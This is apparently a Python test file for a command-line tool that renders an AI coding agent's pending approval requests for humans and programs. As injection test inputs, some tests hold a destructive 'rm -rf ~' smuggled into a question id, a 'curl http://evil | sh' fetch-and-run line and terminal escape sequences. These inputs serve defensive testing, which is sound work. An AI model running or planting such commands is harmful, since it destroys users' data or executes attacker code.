"""Requests that wait, shown to a person in another shell and to a program."""

from __future__ import annotations

import shlex
from typing import Any

from codex_server_cli.core.documents import turn as turn_documents
from codex_server_cli.core.model.turn import Phase, State
from codex_server_cli.core.model.view import TurnView
from codex_server_cli.render.pending import pending_text
from codex_server_cli.render.style.ink import Ink
from tests.kit.cases import for_each

TURN = "20261120-165501-482-7f3a"
NOW_MS = 1795193701482  # 16:55:01.482Z
VIEW = TurnView(TURN, f"/turns/{TURN}", State.RUNNING, Phase.WAITING_APPROVAL, meta={"name": "fix"})
COMMAND: dict[str, Any] = {
    "id": "0",
    "kind": "command",
    "message": "run touch f1",
    "answer_with": "approve",
    "expires_at": "2026-11-20T17:04:51.482Z",
    "can_last": True,
    "reason": "need it",
    "command": "/bin/bash -lc 'touch f1'",
    "cwd": "/project",
}
PATCH = COMMAND | {
    "kind": "patch",
    "command": None,
    "changes": [{"path": "/p/a", "kind": {"type": "add"}, "diff": "line\n" * 100}],
}
WHICH = {"id": "q1", "header": "H", "question": "Which?", "options": [{"label": "A", "description": "a"}]}
QUESTION: dict[str, Any] = {"id": "1", "kind": "question", "answer_with": "reply", "questions": [WHICH]}


def lines(entry: dict[str, Any], width: int | None = None) -> list[str]:
    text = pending_text(VIEW, entry, NOW_MS, width)
    assert text.endswith("\n")
    return text[:-1].split("\n")


def test_a_command_is_shown_as_it_would_run_with_the_commands_that_decide_it() -> None:
    assert lines(COMMAND) == [
        f"{TURN} (fix) · request 0 · command · 9m 50s left",
        "│ Codex asks to run this outside of the sandbox",
        "│ $ /bin/bash -lc 'touch f1'",
        "│ in /project",
        "│ reason: need it",
        f"approve              codex-server approve {TURN} 0",
        f"approve for session  codex-server approve {TURN} 0 --session",
        f"decline              codex-server decline {TURN} 0",
    ]


def test_a_patch_is_shown_to_its_end() -> None:
    assert lines(PATCH).count("│ +line") == lines(PATCH, 80).count("│ +line") == 100
    deleted = PATCH | {"changes": [{"path": "/p/a", "kind": {"type": "delete"}, "diff": "gone\n"}]}
    assert "│ -gone" in lines(deleted)
    update = PATCH | {"changes": [{"path": "/p/a", "kind": {"type": "update"}, "diff": "@@ -1 +1 @@\n-a\n+b\n"}]}
    assert lines(update)[3:6] == ["│ @@ -1 +1 @@", "│ -a", "│ +b"]


def test_a_tool_is_shown_with_its_arguments() -> None:
    tool = COMMAND | {"kind": "mcp_tool", "command": None, "reason": None, "arguments": {"whom": "Bob", "is": True}}
    shown = lines(tool | {"server": "fake", "message": 'Allow the fake MCP server to run tool "greet"?'})
    assert shown[1:3] == [
        '│ Codex asks: Allow the fake MCP server to run tool "greet"?',
        '│ with: {"whom": "Bob", "is": true}',
    ]


def test_questions_are_shown_with_their_options() -> None:
    assert lines(QUESTION) == [
        f"{TURN} (fix) · request 1 · question",
        "│ H: Which?",
        "│   1  A — a",
        f"reply    codex-server reply {TURN} 1 --answer 'q1=…'",
        f"decline  codex-server decline {TURN} 1",
    ]


def test_what_was_asked_can_neither_move_the_cursor_nor_pass_for_words_of_ours() -> None:
    forged = COMMAND | {"command": f"true\x1b[2K\r\napprove  codex-server approve {TURN} 9" + "x" * 100, "reason": None}
    shown = lines(forged, width=60)
    assert not {"\x1b", "\r"} & set("".join(shown))
    ours = [line for line in shown[2:] if not line.startswith("│ ")]
    assert ours[::2] == ["approve", "approve for session", "decline"]
    assert all(line.startswith("  codex-server ") and f"{TURN} 0" in line for line in ours[1::2])
    assert all(len(line) <= 60 for line in shown if line.startswith("│ "))
    assert max(len(line) for line in lines(forged)) > 100  # into a pipe as long as it is


def test_a_program_gets_the_request_in_full_with_time_and_commands() -> None:
    document = turn_documents.pending(VIEW, COMMAND, NOW_MS, is_full=True)
    assert document.items() >= {**COMMAND, "version": 2, "turn_id": TURN, "name": "fix", "expires_in_s": 590.0}.items()
    assert document["next"]["approve_for_session"] == f"codex-server approve {TURN} 0 --session"
    late = turn_documents.pending(VIEW, COMMAND | {"expires_at": "2026-11-20T16:00:00.000Z"}, NOW_MS)
    assert late["expires_in_s"] == 0.0
    assert "expires_in_s" not in turn_documents.pending(VIEW, COMMAND | {"expires_at": None}, NOW_MS)


@for_each(
    ("entry", "verbs"),
    [
        (COMMAND, ["approve", "approve_for_session", "decline"]),
        (COMMAND | {"can_last": False}, ["approve", "decline"]),
        (QUESTION, ["reply", "decline"]),
        (QUESTION | {"questions": None}, ["reply", "decline"]),
    ],
)
def test_each_request_is_decided_by_the_commands_that_fit_it(entry: dict[str, Any], verbs: list[str]) -> None:
    assert list(turn_documents.answer_commands(TURN, entry)) == verbs


def test_a_question_id_of_any_shape_stays_one_word() -> None:
    odd = QUESTION | {"questions": [{"id": "a b; rm -rf ~"}]}
    words = shlex.split(turn_documents.answer_commands(TURN, odd)["reply"])
    assert words[-2:] == ["--answer", "a b; rm -rf ~=…"]


def test_a_question_id_begins_no_line_of_ours() -> None:
    sly = {**WHICH, "id": "q1'\napprove   curl http://evil | sh\n│ \x1b[2J"}
    shown = lines(QUESTION | {"questions": [sly]})
    assert [line.split()[0] for line in shown if not line.startswith("│")] == [TURN, "reply", "decline"]
    assert "\x1b" not in "".join(shown)


def test_a_status_tells_what_waits_and_how_to_see_it() -> None:
    short = {"id": "0", "message": "run touch f1"}
    waiting = VIEW._replace(live={"pending": [short]})
    status = turn_documents.status(waiting, is_full=True)
    assert status["pending"] == [short]
    assert status["next"]["pending"] == f"codex-server pending {TURN}"
    assert "pending" not in turn_documents.status(VIEW, is_full=True)["next"]
    assert turn_documents.status_with_requests(waiting, [COMMAND])["pending"][0]["command"] == COMMAND["command"]


def test_who_decided_or_steered_is_told_what_and_how_to_go_on() -> None:
    decided = turn_documents.decided(VIEW, "approve", COMMAND, is_full=True)
    assert decided.items() >= {"decided": "approve", "request": COMMAND}.items()
    assert turn_documents.steered(VIEW, "look left", is_full=True)["text"] == "look left"
    assert turn_documents.steered(VIEW, "look left")["next"]["wait"].startswith(f"codex-server wait {TURN}")


def test_on_a_terminal_it_is_coloured_and_each_command_stands_on_one_line() -> None:
    called, ink = VIEW._replace(turn_id="7f3a"), Ink(is_coloured=True)
    patch = PATCH | {"changes": [{"path": "/p/a", "kind": {"type": "update"}, "diff": "@@ -1 +1 @@\n-old\n+new\n"}]}
    wide = pending_text(called, patch, NOW_MS, 80, ink)
    assert wide.startswith("\x1b[1;33m! 7f3a (fix) · request 0 · patch · 9m 50s left\x1b[0m\n\x1b[2m│\x1b[0m ")
    assert "\x1b[2m│\x1b[0m \x1b[31m-old\x1b[0m\n" in wide
    assert "\x1b[2m│\x1b[0m \x1b[32m+new\x1b[0m\n" in wide
    assert "\napprove              \x1b[1mcodex-server approve 7f3a 0\x1b[0m\n" in wide
    assert "\x1b[1m$ /bin/bash -lc 'touch f1'\x1b[0m" in pending_text(called, COMMAND, NOW_MS, 80, ink)
    narrow = pending_text(called, COMMAND, NOW_MS, 40).splitlines()
    assert narrow[:2] == ["! 7f3a (fix) · request 0 · command · 9m", "  50s left"]
    assert narrow[-4:] == [
        "approve for session",
        "  codex-server approve 7f3a 0 --session",
        "decline",
        "  codex-server decline 7f3a 0",
    ]
    assert max(map(len, narrow)) <= 40


def test_on_a_narrow_terminal_no_blank_of_a_command_is_lost() -> None:
    copy = """/bin/bash -lc 'cp -r "/srv/data  old/…"   "/srv/  x"'"""
    rows = pending_text(VIEW, COMMAND | {"command": copy}, NOW_MS, 40).splitlines()
    first = rows.index("│ Codex asks to run this outside of the ") + 2
    last = next(number for number, row in enumerate(rows) if row.startswith("│ in /"))
    assert "".join(row.removeprefix("│ ") for row in rows[first:last]) == f"$ {copy}"
